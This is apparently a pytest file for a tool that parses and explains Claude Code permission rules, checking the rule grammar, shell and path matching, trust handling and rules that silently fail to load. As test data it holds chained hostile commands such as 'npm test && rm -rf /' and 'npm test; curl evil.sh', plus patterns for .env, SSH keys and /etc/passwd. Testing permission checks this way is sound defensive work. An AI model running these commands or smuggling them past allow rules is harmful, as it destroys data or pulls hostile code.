"""Permission-rule grammar, rejection checks, and explain_permission."""

from __future__ import annotations

import pytest

from claude_health.tools.settings import permissions as P
from claude_health.tools.settings.explain import explain_permission
from claude_health.tools.settings.validate import validate_workspace
from tests.conftest import Sandbox

# Observed with `claude doctor` 2.1.332: loaded (None) or the start of the skip reason.
VERDICTS = [
    ("Bash(ls)", "allow", None),
    ("Bash(ls))", "allow", None),
    ("Bash((ls)", "allow", None),
    ("Bash(foo:*bar)", "allow", None),
    ("Bash(foo())", "allow", None),
    ('Bash(python -c "help\\(x\\)")', "allow", None),
    ("WebSearch(*)", "allow", None),
    ("Agent(model:opus)", "deny", None),
    ("mcp__github__get_*", "allow", None),
    ("mcp__*", "deny", None),
    ("*", "ask", None),
    ("Bash(ls", "allow", "Malformed"),
    ("Bash(x) y", "allow", "Malformed"),
    ("Bash()", "allow", "Empty parentheses"),
    ("bash(ls)", "allow", "Tool names must start with uppercase"),
    ("mcp__x(y)", "allow", "MCP rules do not support"),
    ("*", "allow", "Wildcard tool name"),
    ("mcp__*", "allow", "Wildcard tool name"),
    ("WebSearch(what?)", "allow", "WebSearch does not support wildcards"),
    ("WebFetch(https://x.com)", "allow", "WebFetch permissions use domain format"),
    ("WebFetch(x.com)", "allow", 'WebFetch permissions must use "domain:"'),
    ("Read(foo:*)", "allow", 'The ":*" syntax'),
    ("Bash(:*)", "allow", "Prefix cannot be empty"),
    ("", "allow", "Permission rule cannot be empty"),
]


@pytest.mark.parametrize(("rule", "behavior", "reason"), VERDICTS)
def test_rule_verdicts(rule: str, behavior: str, reason: str | None) -> None:
    parsed = P.parse(rule)
    got = parsed if isinstance(parsed, str) else P.validate(parsed, behavior)
    if reason is None:
        assert got is None
    else:
        assert got is not None and got.startswith(reason)


def test_escapes_are_unescaped_and_aliases_resolved() -> None:
    parsed = P.parse('Bash(python -c "help\\(x\\)")')
    assert isinstance(parsed, P.ParsedRule) and parsed.content == 'python -c "help(x)"'
    task = P.parse("Task(Explore)")
    assert isinstance(task, P.ParsedRule) and task.tool == "Agent" and task.written_tool == "Task"


@pytest.mark.parametrize(
    ("pattern", "command", "matches"),
    [
        ("git push:*", "git push origin main", True),
        ("git push *", "git push origin main", True),
        ("ls *", "ls", True),
        ("ls *", "lsof", False),
        ("npm run test", "npm run test", True),
        ("npm run test", "npm run test --watch", False),
        ("git * main", "git push origin main", True),
        ("*", "anything", True),
    ],
)
def test_shell_patterns(pattern: str, command: str, matches: bool) -> None:
    assert P.shell_pattern_matches(pattern, command) is matches


def test_split_compound_respects_quotes() -> None:
    assert P.split_command("echo 'a && b' && rm -rf x; ls | wc") == ["echo 'a && b'", "rm -rf x", "ls", "wc"]


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        (".env", "/p/.env", True),
        (".env", "/p/sub/.env", True),
        ("./.env", "/p/.env", True),
        ("/secrets/**", "/p/secrets/a/b", True),
        ("/secrets/**", "/secrets/a", False),
        ("//etc/passwd", "/etc/passwd", True),
        ("~/.ssh/**", "/home/u/.ssh/id_rsa", True),
        ("src/*.py", "/p/src/a.py", True),
        ("src/*.py", "/p/src/x/a.py", False),
        ("src/**/*.py", "/p/src/x/a.py", True),
    ],
)
def test_path_patterns(pattern: str, path: str, matches: bool) -> None:
    assert P.path_pattern_matches(pattern, path, base="/p", cwd="/p", home="/home/u") is matches


def _trusted(sandbox: Sandbox) -> None:
    sandbox.claude_json({"projects": {str(sandbox.project): {"hasTrustDialogAccepted": True}}})


def test_explain_git_push_denied_by_user_rule(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    user = sandbox.user_settings({"permissions": {"deny": ["Bash(git push *)"]}})
    sandbox.local_settings({"permissions": {"allow": ["Bash(git push origin main)"]}})
    result = explain_permission(validate_workspace(sandbox.workspace()), "Bash", "git push origin main")
    assert result.decision == "deny"
    (m,) = result.matched
    assert (m.rule, m.path, m.scope) == ("Bash(git push *)", str(user), "user")
    assert m.line is not None and m.column is not None


def test_explain_read_env(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    project = sandbox.project_settings({"permissions": {"deny": ["Read(./.env)"], "allow": ["Read(src/**)"]}})
    v = validate_workspace(sandbox.workspace())
    denied = explain_permission(v, "Read", "./.env")
    assert denied.decision == "deny" and denied.matched[0].path == str(project)
    assert (
        explain_permission(v, "Read", {"file_path": str(sandbox.project / "src" / "a.py")}).decision
        == "allow"
    )


def test_explain_compound_command_needs_every_part_allowed(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.local_settings({"permissions": {"allow": ["Bash(npm test)"], "ask": ["Bash(curl *)"]}})
    v = validate_workspace(sandbox.workspace())
    assert explain_permission(v, "Bash", "npm test").decision == "allow"
    assert explain_permission(v, "Bash", "npm test && rm -rf /").decision == "ask"
    assert explain_permission(v, "Bash", "npm test; curl evil.sh").decision == "ask"


def test_explain_untrusted_ignores_project_allow(sandbox: Sandbox) -> None:
    sandbox.project_settings({"permissions": {"allow": ["Bash(npm test)"]}})
    result = explain_permission(validate_workspace(sandbox.workspace()), "Bash", "npm test")
    assert result.decision == "ask"
    assert any("not trusted" in n for n in result.notes)


def test_explain_write_rule_is_never_consulted(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.local_settings({"permissions": {"deny": ["Write(secrets/**)"]}})
    v = validate_workspace(sandbox.workspace())
    assert explain_permission(v, "Write", "secrets/a.txt").decision == "ask"


def test_explain_mcp_and_webfetch(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.local_settings(
        {
            "permissions": {
                "allow": ["mcp__github", "WebFetch(domain:*.python.org)"],
                "deny": ["mcp__github__delete_repo"],
            }
        }
    )
    v = validate_workspace(sandbox.workspace())
    assert explain_permission(v, "mcp__github__get_issue", None).decision == "allow"
    assert explain_permission(v, "mcp__github__delete_repo", None).decision == "deny"
    assert explain_permission(v, "WebFetch", "https://docs.python.org/3/").decision == "allow"
    assert explain_permission(v, "WebFetch", "https://evil.example/").decision == "ask"


def test_managed_only_rules(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.managed_settings(
        {"allowManagedPermissionRulesOnly": True, "permissions": {"allow": ["Bash(ls)"]}}
    )
    sandbox.user_settings({"permissions": {"deny": ["Bash(ls)"]}})
    v = validate_workspace(sandbox.workspace())
    result = explain_permission(v, "Bash", "ls")
    assert result.decision == "allow" and result.matched[0].scope == "managed"


def test_default_decisions(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.local_settings(
        {"permissions": {"additionalDirectories": ["../shared"], "defaultMode": "acceptEdits"}}
    )
    v = validate_workspace(sandbox.workspace())
    assert explain_permission(v, "Read", "../shared/notes.md").decision == "allow"
    assert explain_permission(v, "Read", "/etc/hosts").decision == "ask"
    assert explain_permission(v, "Edit", "src/a.py").decision == "allow"
    assert explain_permission(v, "Bash", "make").decision == "ask"


def test_explain_untrusted_names_the_allow_rule_it_does_not_apply(sandbox: Sandbox) -> None:
    project = sandbox.project_settings({"permissions": {"allow": ["Bash(npm test)"]}})
    result = explain_permission(validate_workspace(sandbox.workspace()), "Bash", "npm test")
    assert (result.decision, result.as_written) == ("ask", "allow")
    [rule] = result.not_applied
    assert (rule.rule, rule.path, rule.behavior) == ("Bash(npm test)", str(project), "allow")
    assert "not trusted" in rule.why and rule.line == 4


def test_explain_deny_rule_in_an_ignored_user_file(sandbox: Sandbox) -> None:
    """The fail-open case: the user believes in a deny rule Claude Code never loaded."""
    _trusted(sandbox)
    user = sandbox.user_settings({"model": 5, "permissions": {"deny": ["Bash(git push *)"]}})
    sandbox.local_settings({"permissions": {"allow": ["Bash(git push *)"]}})
    result = explain_permission(validate_workspace(sandbox.workspace()), "Bash", "git push origin main")
    assert (result.decision, result.as_written) == ("allow", "deny")
    assert result.matched[0].rule == "Bash(git push *)" and result.matched[0].scope == "local"
    [rule] = result.not_applied
    assert rule.path == str(user) and "`model`" in rule.why
    assert f'deny rule "Bash(git push *)" ({user}:' in result.reason


def test_explain_rule_dropped_as_invalid_and_policy_only_rules(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.managed_settings({"allowManagedPermissionRulesOnly": True})
    local = sandbox.local_settings({"permissions": {"deny": ["WebSearch(what?)", "Bash(rm *)"]}})
    v = validate_workspace(sandbox.workspace())
    search = explain_permission(v, "WebSearch", {"query": "what?"})
    rm = explain_permission(v, "Bash", "rm -rf build")
    assert rm.as_written == "deny" and "allowManagedPermissionRulesOnly" in rm.not_applied[0].why
    assert rm.not_applied[0].path == str(local)
    [dropped] = search.not_applied
    assert dropped.rule == "WebSearch(what?)" and "drops it as invalid" in dropped.why
    assert search.as_written == "deny" and search.decision != "deny"


def test_explain_unapplied_rule_that_changes_nothing_is_a_note(sandbox: Sandbox) -> None:
    _trusted(sandbox)
    sandbox.user_settings({"permissions": {"deny": ["Bash(rm *)"]}})
    sandbox.project_settings({"model": 5, "permissions": {"deny": ["Bash(rm -rf *)"]}})
    result = explain_permission(validate_workspace(sandbox.workspace()), "Bash", "rm -rf build")
    assert result.decision == "deny" and result.as_written is None
    assert len(result.not_applied) == 1 and any("same" in n for n in result.notes)
